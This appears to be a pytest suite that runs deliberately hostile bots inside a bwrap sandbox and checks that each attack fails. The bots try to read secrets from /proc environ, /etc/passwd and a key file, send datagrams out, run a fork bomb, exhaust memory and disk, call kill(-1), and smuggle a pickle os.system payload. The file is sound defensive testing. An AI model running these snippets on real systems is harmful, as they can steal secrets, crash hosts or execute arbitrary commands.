"""Hostile bots in the bwrap sandbox: each attack must fail and leave the test process healthy.

Each test launches a real bot whose code attacks, lets it report what it managed (a `REPORT`
log line, read by the fake trusted side) and checks the effect from outside as well. They skip
where bwrap cannot run; HYPERDESK_REQUIRE_BWRAP=1 (set in CI) turns that skip into a failure.
"""

from __future__ import annotations

import errno
import os
import shutil
import signal
import socket
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from hyperdesk.sandbox.channel import ProtocolViolation
from hyperdesk.sandbox.launcher import BotProcess, SandboxKind, SandboxSpec, launch_bot
from hyperdesk.sandbox.messages import parse_bot_message
from tests.helpers import wait_until
from tests.sandbox.harness import FakeServer, alive, descendants, require_bwrap

pytestmark = pytest.mark.timeout(60)

SECRET = "hd-fake-secret-3c1f0e"
PREAMBLE = textwrap.dedent(
    """
    import errno, json, os, signal, socket, sys, time

    def report(**findings):
        print("REPORT " + json.dumps(findings))

    def attempt(action):
        try:
            return {"ok": repr(action())[:2000]}
        except BaseException as exc:
            return {"error": type(exc).__name__, "errno": getattr(exc, "errno", None)}

    def channel_fd():
        return json.loads(sys.argv[1])["fd"]
    """
)


def hostile(body: str) -> str:
    """A bot module whose constructor runs `body` (indented) with the preamble's helpers."""
    return (
        PREAMBLE
        + "\nclass Bot:\n    def __init__(self, api, config):\n"
        + textwrap.indent(textwrap.dedent(body), "        ")
    )


@pytest.fixture(autouse=True)
def _bwrap_required() -> None:
    require_bwrap()


@pytest.fixture
def bots() -> Iterator[list[BotProcess]]:
    started: list[BotProcess] = []
    yield started
    for bot in started:
        bot.close()


def launch(
    bots: list[BotProcess], code: str, spec: SandboxSpec | None = None, kind: SandboxKind = "bwrap"
) -> FakeServer:
    bot = launch_bot(code, spec or SandboxSpec(), kind=kind)
    bots.append(bot)
    server = FakeServer(bot)
    server.start({"any": "config"})
    return server


def test_host_process_can_still_fork() -> None:
    assert subprocess.run(["true"], check=False, timeout=10).returncode == 0


def test_the_bot_sees_no_secret_in_environment_proc_or_files(
    bots: list[BotProcess], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HYPERDESK_FAKE_SECRET", SECRET)
    master_key = tmp_path / "master.key"
    master_key.write_text(SECRET)
    master_key.chmod(0o644)
    server = launch(
        bots,
        hostile(
            f"""
            seen = {{}}
            seen["environ"] = dict(os.environ)
            for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]:
                for name in ("environ", "cmdline"):
                    seen[f"/proc/{{pid}}/{{name}}"] = attempt(lambda: open(f"/proc/{{pid}}/{{name}}", "rb").read())
            paths = [{str(master_key)!r}, {str(tmp_path)!r}, "/etc/passwd", {sys.prefix!r}, {os.getcwd()!r}]
            report(
                seen=seen,
                uid=os.getuid(),
                files={{path: attempt(lambda: open(path).read()) for path in paths}},
                exists={{path: os.path.exists(path) for path in paths}},
                server_code=attempt(lambda: __import__("hyperdesk.settings")),
                pydantic=attempt(lambda: __import__("pydantic")),
                root=sorted(os.listdir("/")),
            )
            """
        ),
    )
    findings = server.report()

    assert SECRET not in repr(findings)
    assert findings["uid"] == 65534
    assert "/proc/1/environ" in findings["seen"]  # it did look
    assert all(result.get("error") for result in findings["files"].values())
    assert not any(findings["exists"].values())
    assert findings["server_code"]["error"] == "ModuleNotFoundError"
    assert findings["pydantic"]["error"] == "ModuleNotFoundError"
    assert "etc" not in findings["root"]
    # From outside: the process the server started (bwrap) carries no environment either.
    with open(f"/proc/{server.bot.pid}/environ", "rb") as handle:
        assert handle.read() == b""


def test_the_bot_has_no_network(bots: list[BotProcess]) -> None:
    with socket.socket() as listener, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        tcp_port, udp_port = listener.getsockname()[1], udp.getsockname()[1]
        server = launch(
            bots,
            hostile(
                f"""
                def tcp(host, port):
                    with socket.create_connection((host, port), timeout=2):
                        return "connected"

                def datagram():
                    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                        s.sendto(b"exfiltrate", ("127.0.0.1", {udp_port}))
                        s.sendto(b"exfiltrate", ("1.1.1.1", 53))

                report(
                    tcp_local=attempt(lambda: tcp("127.0.0.1", {tcp_port})),
                    tcp_remote=attempt(lambda: tcp("1.1.1.1", 443)),
                    udp=attempt(datagram),
                    dns=attempt(lambda: socket.getaddrinfo("example.com", 443)),
                    unix=attempt(lambda: socket.socket(socket.AF_UNIX).connect("/run/postgresql/.s.PGSQL.5432")),
                )
                """
            ),
        )
        findings = server.report()

        assert findings["tcp_local"].get("errno") == errno.ECONNREFUSED  # the sandbox's own lo
        assert findings["tcp_remote"].get("errno") == errno.ENETUNREACH
        assert findings["udp"].get("errno") == errno.ENETUNREACH
        assert findings["dns"].get("error") == "gaierror"
        assert "error" in findings["unix"]
        with pytest.raises(BlockingIOError):
            listener.accept()
        with pytest.raises(BlockingIOError):
            udp.recv(100)


def test_a_fork_bomb_is_bounded_and_dies_with_the_bot(bots: list[BotProcess]) -> None:
    limit = 16
    server = launch(
        bots,
        hostile(
            """
            forked, failure = 0, None
            while failure is None:
                try:
                    if os.fork() == 0:  # every child forks on, backing off when refused
                        while True:
                            try:
                                os.fork()
                            except OSError:
                                time.sleep(0.05)
                    forked += 1
                except OSError as exc:
                    failure = exc.errno
            report(forked=forked, failure=failure)
            """
        ),
        SandboxSpec(max_processes=limit),
    )
    findings = server.report()
    tree = descendants(server.bot.pid)

    assert findings["failure"] == errno.EAGAIN
    assert findings["forked"] < limit
    assert len(tree) <= limit + 2  # the bot's tasks plus bwrap's own pid-1 helper
    assert subprocess.run(["true"], check=False, timeout=10).returncode == 0  # host can fork

    server.bot.kill("stopped")
    wait_until(lambda: not any(alive(pid) for pid in tree), timeout=5, message="bomb gone")
    assert server.bot.wait(timeout=5) is not None


def test_allocating_ten_gigabytes_fails_with_memory_error(bots: list[BotProcess]) -> None:
    memory = 512 * 1024 * 1024
    server = launch(
        bots,
        hostile(
            """
            big = attempt(lambda: len(bytearray(10 * 1024**3)))
            chunks = []
            try:
                while True:
                    chunks.append(bytearray(32 * 1024**2))
            except MemoryError:
                reached = 32 * 1024**2 * len(chunks)
            chunks.clear()
            report(big=big, reached=reached)
            """
        ),
        SandboxSpec(memory_bytes=memory),
    )
    findings = server.report()

    assert findings["big"]["error"] == "MemoryError"
    assert findings["reached"] < memory
    server.send({"type": "ping", "nonce": 1})  # and the bot is still alive and answering
    assert server.until(lambda m: m["type"] == "pong")["nonce"] == 1


@pytest.mark.parametrize("ignore_sigxcpu", [False, True])
def test_a_busy_loop_is_killed_by_the_cpu_limit(
    bots: list[BotProcess], ignore_sigxcpu: bool
) -> None:
    ignore = "signal.signal(signal.SIGXCPU, signal.SIG_IGN)" if ignore_sigxcpu else ""
    server = launch(bots, hostile(f"{ignore}\nwhile True:\n    pass\n"), SandboxSpec(cpu_seconds=1))

    assert server.bot.wait(timeout=30) is not None
    expected = "killed (SIGKILL)" if ignore_sigxcpu else "CPU time limit exceeded"
    assert server.bot.exit_reason == expected


def test_filling_the_disk_is_bounded_by_the_tmpfs_and_file_size_limit(
    bots: list[BotProcess],
) -> None:
    tmpfs, largest = 8 * 1024 * 1024, 4 * 1024 * 1024
    server = launch(
        bots,
        hostile(
            """
            block = b"x" * (256 * 1024)
            written, failures, n = 0, [], 0
            while len(failures) < 3 and n < 1000:
                n += 1
                try:
                    with open(f"/tmp/fill-{n}", "wb", buffering=0) as handle:
                        while True:
                            written += handle.write(block)
                except OSError as exc:
                    failures.append(exc.errno)
            elsewhere = {p: attempt(lambda: open(p, "wb").write(b"x")) for p in ["/bot/x", "/usr/x", "/x", "/dev/x", "/dev/shm/x"]}
            report(written=written, failures=failures, elsewhere=elsewhere)
            """
        ),
        SandboxSpec(tmpfs_bytes=tmpfs, max_file_bytes=largest),
    )
    findings = server.report()

    assert findings["written"] <= tmpfs
    assert errno.EFBIG in findings["failures"]  # one file stops at the file size limit
    assert errno.ENOSPC in findings["failures"]  # all files together stop at the tmpfs size
    assert all("error" in result for result in findings["elsewhere"].values())


def test_opening_ten_thousand_files_hits_emfile(bots: list[BotProcess]) -> None:
    server = launch(
        bots,
        hostile(
            """
            handles, failure = [], None
            for _ in range(10_000):
                try:
                    handles.append(os.open("/dev/null", os.O_RDONLY))
                except OSError as exc:
                    failure = exc.errno
                    break
            report(opened=len(handles), failure=failure)
            """
        ),
        SandboxSpec(max_open_files=64),
    )
    findings = server.report()

    assert findings["failure"] == errno.EMFILE
    assert findings["opened"] < 64


def test_kill_minus_one_reaches_only_the_bots_own_sandbox(bots: list[BotProcess]) -> None:
    neighbour = launch(bots, "class Bot:\n    def __init__(self, api, config): pass\n")
    neighbour.until(lambda m: m["type"] == "ready")
    # A host process with the uid the bot runs as (or ours, when not root): kill(-1) without a
    # pid namespace would reach it.
    as_sandbox_uid: dict[str, Any] = {"user": 65534, "group": 65534} if os.geteuid() == 0 else {}
    canary = subprocess.Popen(["sleep", "120"], **as_sandbox_uid)
    try:
        attacker = launch(
            bots,
            hostile(
                """
                child = os.fork()
                if child == 0:
                    time.sleep(60)
                    os._exit(0)
                killed = attempt(lambda: os.kill(-1, signal.SIGKILL))
                report(killed=killed, child_status=os.waitpid(child, 0)[1])
                """
            ),
        )
        findings = attacker.report()

        # kill(-1) worked inside the sandbox (its own child died) and reached nothing outside.
        assert findings["killed"] == {"ok": "None"}
        assert findings["child_status"] == signal.SIGKILL
        assert canary.poll() is None
        neighbour.send({"type": "ping", "nonce": 5})
        assert neighbour.until(lambda m: m["type"] == "pong")["nonce"] == 5
        assert neighbour.bot.returncode is None
    finally:
        canary.kill()
        canary.wait()


@pytest.mark.parametrize(
    ("payload", "code"),
    [
        ("pickle.dumps(Evil(), protocol=0)", "BAD_JSON"),
        ("pickle.dumps(Evil(), protocol=5)", "INVALID_UTF8"),
        ("b'\\xff\\xfe\\xfd'", "INVALID_UTF8"),
    ],
)
def test_garbage_frames_are_protocol_violations_and_never_unpickled(
    bots: list[BotProcess], tmp_path: Path, payload: str, code: str
) -> None:
    marker = tmp_path / "pwned"
    server = launch(
        bots,
        PREAMBLE
        + textwrap.dedent(
            f"""
            import pickle, struct

            class Evil:
                def __reduce__(self):
                    return (os.system, ("touch {marker}",))

            class Bot:
                def __init__(self, api, config):
                    body = {payload}
                    os.write(channel_fd(), struct.pack(">I", len(body)) + body)
            """
        ),
    )

    with pytest.raises(ProtocolViolation) as caught:
        server.until(lambda m: False)
    assert caught.value.code == code
    assert not marker.exists()


def test_a_hundred_megabyte_line_is_cut_off_at_the_cap(bots: list[BotProcess]) -> None:
    server = launch(
        bots,
        hostile(
            """
            line = b"x" * (100 * 1024 * 1024) + b"\\n"
            sock = socket.socket(fileno=channel_fd())
            sock.sendall(line)
            """
        ),
    )

    with pytest.raises(ProtocolViolation) as caught:
        server.until(lambda m: False)
    assert caught.value.code == "OVERSIZE"
    assert server.bot.channel.bytes_received < 2 * server.bot.channel.max_message_bytes


def test_unknown_message_types_are_protocol_violations(bots: list[BotProcess]) -> None:
    server = launch(
        bots,
        hostile(
            """
            from hyperdesk.bots.wire import encode_frame
            os.write(channel_fd(), encode_frame({"type": "grant_admin", "user": 1}))
            """
        ),
    )
    unknown = server.until(lambda m: m["type"] == "grant_admin")

    with pytest.raises(ProtocolViolation) as caught:
        parse_bot_message(unknown)
    assert caught.value.code == "UNKNOWN_TYPE"


LAUNCHER = textwrap.dedent(
    """
    import sys
    from hyperdesk.sandbox.launcher import launch_bot

    code = '''
    import os, time
    class Bot:
        def __init__(self, api, config):
            if config["fork"] and os.fork() == 0:
                while True:
                    time.sleep(1)
    '''
    bot = launch_bot(code, kind=sys.argv[1])
    assert bot.channel.recv(timeout=20)["type"] == "hello"
    bot.channel.send({"type": "start", "config": {"fork": sys.argv[1] == "bwrap"}, "tick_seconds": 0})
    while bot.channel.recv(timeout=20)["type"] != "ready":
        pass
    from hyperdesk.sandbox.python_home import python_home
    print("ready", bot.run_dir, python_home().source if sys.argv[1] == "bwrap" else "", flush=True)
    sys.stdin.read()
    """
)


@pytest.mark.parametrize("kind", ["bwrap", "process"])
def test_killing_the_server_kills_its_bots_within_a_second(kind: SandboxKind) -> None:
    leftovers: list[str] = []
    launcher = subprocess.Popen(
        [sys.executable, "-c", LAUNCHER, kind],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        cwd=Path(__file__).resolve().parents[2],
    )
    try:
        assert launcher.stdout is not None
        ready, *leftovers = launcher.stdout.readline().decode().split(" ")
        assert ready == "ready"
        bot_processes = descendants(launcher.pid)
        assert len(bot_processes) >= (4 if kind == "bwrap" else 1)  # bwrap, its pid 1, bot, child

        os.kill(launcher.pid, signal.SIGKILL)
        killed_at = time.monotonic()
        wait_until(
            lambda: not any(alive(pid) for pid in bot_processes),
            timeout=1.0,
            message=f"bot processes {bot_processes} gone",
        )
        assert time.monotonic() - killed_at < 1.5
    finally:
        launcher.kill()
        launcher.wait()
        for pid in descendants(launcher.pid):
            os.kill(pid, signal.SIGKILL)
        for path in leftovers:  # the killed launcher could not clean up after itself
            if path.strip():
                shutil.rmtree(path.strip(), ignore_errors=True)
